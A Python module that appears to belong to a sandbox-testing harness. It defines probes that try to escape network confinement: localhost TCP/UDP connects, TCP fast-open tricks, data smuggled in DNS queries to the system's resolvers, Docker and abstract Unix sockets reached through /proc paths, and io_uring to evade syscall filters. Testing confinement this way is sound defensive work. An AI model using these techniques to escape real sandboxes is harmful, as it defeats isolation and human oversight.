"""Attacks that reach out: to a server of this machine, over each kind of socket, or by being one."""

from __future__ import annotations

from metaharness.attacks.attack import Attack

_SOCKETS = """
import socket

def stream(family, address, protocol=0):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as one:
        one.settimeout(1)
        one.connect(address)
        one.sendall(S["nonce"].encode())
        return "connected to %r" % (address,)

def datagram(one, address):
    one.settimeout(1)
    one.sendto(S["nonce"].encode(), address)
    return "sent to %r" % (address,)
"""

NETWORK = (
    Attack(
        "tcp",
        "connect to a server on 127.0.0.1",
        'return stream(socket.AF_INET, ("127.0.0.1", S["tcp"]))',
        before=_SOCKETS,
    ),
    Attack(
        "tcp without connect",
        "MSG_FASTOPEN, and multipath TCP, which no rule on connect covers",
        """
        def fast():
            one = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            one.settimeout(1)
            one.sendto(S["nonce"].encode(), 0x20000000, ("127.0.0.1", S["tcp"]))
            return "sent with the first packet"
        return first([fast, lambda: stream(socket.AF_INET, ("127.0.0.1", S["tcp"]), 262)])
        """,
        before=_SOCKETS,
    ),
    Attack(
        "udp",
        "send a datagram to 127.0.0.1",
        'return datagram(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), ("127.0.0.1", S["udp"])) and ""',
        before=_SOCKETS,
    ),
    Attack(
        "dns",
        "put data into a query for a name",
        """
        def ask(server, port):
            one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            one.settimeout(0.5)
            label = S["nonce"].encode()
            query = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0"
            query += bytes([len(label)]) + label + b"\\x07example\\x03com\\0\\0\\x01\\0\\x01"
            one.sendto(query, (server, port))
            return port == 53 and one.recv(512) and "%s answered" % server
        def servers():
            lines = [line.split() for line in open("/etc/resolv.conf")]
            return [line[1] for line in lines if line[:1] == ["nameserver"]]
        return first([
            lambda: ask("127.0.0.1", S["udp"]),
            lambda: first(lambda server=server: ask(server, 53) for server in servers()),
        ])
        """,
        before=_SOCKETS,
    ),
    Attack(
        "abstract socket",
        "connect to an abstract Unix socket of the machine",
        'return stream(socket.AF_UNIX, "\\0" + S["abstract"])',
        before=_SOCKETS,
    ),
    Attack(
        "socket by path",
        "connect to a Unix socket by its path, such as that of docker",
        'return stream(socket.AF_UNIX, S["socket"])',
        before=_SOCKETS,
    ),
    Attack(
        "socket through /proc/self/fd",
        "connect to a Unix socket through a descriptor of its folder, and through the root of the engine",
        """
        def opened():
            folder = os.open(os.path.dirname(S["socket"]), os.O_PATH)
            return stream(socket.AF_UNIX, "/proc/self/fd/%d/%s" % (folder, os.path.basename(S["socket"])))
        return first([opened, lambda: stream(socket.AF_UNIX, "/proc/%d/root%s" % (S["engine"], S["socket"]))])
        """,
        before=_SOCKETS,
    ),
    Attack(
        "datagram socket",
        "send to a Unix datagram socket, by path and by abstract name",
        """
        for address in (S["datagrams"], "\\0" + S["abstract_datagrams"]):
            try:
                datagram(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM), address)
            except OSError as error:
                problem = error
            else:
                return "sent"
        raise problem
        """,
        before=_SOCKETS,
    ),
    Attack(
        "datagram from a pair",
        "send to a Unix datagram socket from a socketpair, which needs neither socket() nor connect()",
        """
        def ways():
            for address in (S["datagrams"], "\\0" + S["abstract_datagrams"]):
                pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
                yield lambda: datagram(pair[0], address)
                yield lambda: pair[0].sendmsg([S["nonce"].encode()], [], 0, address) and "sent by sendmsg"
        return first(ways())
        """,
        before=_SOCKETS,
    ),
    Attack(
        "server",
        "listen on 127.0.0.1 and wait for somebody of the machine to connect",
        """
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as one:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            one.bind(("127.0.0.1", S["serve"]))
            one.listen()
            one.settimeout(1)
            other, _ = one.accept()
            other.sendall(S["nonce"].encode())
            other.close()
            return "somebody connected"
        """,
        before=_SOCKETS,
    ),
    Attack(
        "io_uring",
        "open a queue of system calls that a filter does not see",
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.syscall(425, 8, ctypes.create_string_buffer(256))
        if fd < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        os.close(fd)
        return "there is one"
        """,
    ),
)
